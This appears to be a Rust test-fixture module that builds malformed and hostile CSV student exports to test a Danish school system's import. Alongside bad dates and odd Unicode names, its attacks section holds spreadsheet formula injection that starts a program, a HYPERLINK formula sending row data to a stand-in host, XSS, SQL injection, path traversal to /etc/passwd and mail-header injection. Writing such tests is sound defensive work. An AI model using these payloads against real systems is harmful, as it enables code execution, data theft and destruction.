//! CSV files of the right shape with values that cannot be, or that attack what shows them.

use super::{Hostile, export, imports, student, student_with};

/// A student export whose third row (the second student) is changed.
fn changed(name: &'static str, changes: &[(&str, &str)], bad_rows: &'static [u32]) -> Hostile {
    let rows = [student(0), student_with(1, changes), student(2)];
    imports(name, "elever.csv", export(&rows), 4, bad_rows)
}

pub(super) fn files() -> Vec<Hostile> {
    let mut files = dates();
    files.extend(numbers());
    files.extend(letters());
    files.extend(attacks());
    files
}

fn dates() -> Vec<Hostile> {
    vec![
        changed("29 February in a common year", &[("Startdato", "29-02-2026")], &[3]),
        changed("31 November", &[("Slutdato", "31-11-2026")], &[3]),
        changed("a date of noughts", &[("Startdato", "00-00-0000")], &[3]),
        changed("the year 1", &[("Startdato", "01-01-0001")], &[3]),
        changed("the year 9999", &[("Slutdato", "31-12-9999")], &[3]),
        changed("a date in American order", &[("Startdato", "10/26/2026")], &[3]),
        changed("a date in words", &[("Startdato", "når han er klar")], &[3]),
        changed("the end before the start", &[("Startdato", "15-03-2027"), ("Slutdato", "26-10-2026")], &[3]),
        changed(
            "dates written in two other ways, both possible",
            &[("Startdato", "26.10.2026"), ("Slutdato", "2027-03-15")],
            &[],
        ),
    ]
}

fn numbers() -> Vec<Hostile> {
    vec![
        changed("a CPR number of letters", &[("CPR-nr.", "abcdef-ghij")], &[3]),
        changed("a CPR number of eleven digits", &[("CPR-nr.", "71020650011")], &[3]),
        changed("a CPR number as a spreadsheet shows it", &[("CPR-nr.", "1,1E+09")], &[3]),
        changed("a CPR number in Arabic digits", &[("CPR-nr.", "٧١٠٢٠٦-٥٠٠١")], &[3]),
        changed("a negative CPR number", &[("CPR-nr.", "-710206500")], &[3]),
        changed("a number beyond all numbers", &[("Alder", "1e400")], &[]),
        changed("a negative age", &[("Alder", "-17")], &[]),
        changed("a student number of a thousand digits", &[("Elevnr", ELEVNR)], &[]),
        changed("no student number and no name", &[("Elevnr", ""), ("Elevnavn", ""), ("CPR-nr.", "")], &[3]),
        changed("a postcode of five digits", &[("Postnr.", "96200")], &[]),
        imports(
            "the same student twice, differently",
            "elever.csv",
            export(&[student(1), student_with(1, &[("Hold", "PER-GF2-26d")]), student(2)]),
            4,
            &[],
        ),
    ]
}

const ELEVNR: &str = {
    const DIGITS: [u8; 1000] = [b'7'; 1000];
    match std::str::from_utf8(&DIGITS) {
        Ok(text) => text,
        Err(_) => "",
    }
};

fn letters() -> Vec<Hostile> {
    vec![
        changed("a name that runs backwards", &[("Elevnavn", "Åse \u{202E}drågræjK\u{202C}")], &[]),
        changed(
            "letters without width in a name",
            &[("Elevnavn", "Å\u{200B}se\u{200D} Kjær\u{FEFF}gård\u{00AD}")],
            &[],
        ),
        changed("emoji in a name", &[("Elevnavn", "Åse 👩🏽‍🔧 Kjærgård 🇩🇰")], &[]),
        changed("letters in two parts", &[("Elevnavn", "A\u{30A}se Kjærga\u{30A}rd")], &[]),
        changed(
            "a tower of accents",
            &[("Elevnavn", "Z\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30A}\u{30B}\u{30C}")],
            &[],
        ),
        changed("control characters in a name", &[("Elevnavn", "Åse\u{7}\u{1B}[31m Kjærgård\u{8}")], &[]),
        changed("spaces of every kind around a name", &[("Elevnavn", "\u{A0} \u{2003}Åse Kjærgård\t\u{3000}")], &[]),
        changed("half a letter from beyond the plane", &[("Elevnavn", "Åse \u{10FFFF}\u{FFFF}\u{E000}")], &[]),
    ]
}

fn attacks() -> Vec<Hostile> {
    vec![
        changed(
            "a formula that starts a program",
            &[("Elevnavn", "=cmd|' /C calc'!A0"), ("Adresse", "@SUM(1+1)*cmd|' /C calc'!A0")],
            &[],
        ),
        changed(
            "a formula that sends the row away",
            &[("Elevnavn", "=HYPERLINK(\"http://example.invalid/?\"&A2)")],
            &[],
        ),
        changed("a script in a name", &[("Elevnavn", "<img src=x onerror=alert(1)><script>alert(1)</script>")], &[]),
        changed("SQL in a name", &[("Elevnavn", "' or 1=1) drop table student --")], &[]),
        changed("a path in a name", &[("Elevnavn", "../../../../etc/passwd"), ("Hold", "C:\\Windows\\system32")], &[]),
        changed("a template and a text key in a name", &[("Elevnavn", "{{7*7}} ${7*7} { $navn } %s%n")], &[]),
        changed("an e-mail address that is a mail header", &[("E-mail", "a@b.dk%0d%0aBcc: alle@example.dk")], &[]),
    ]
}
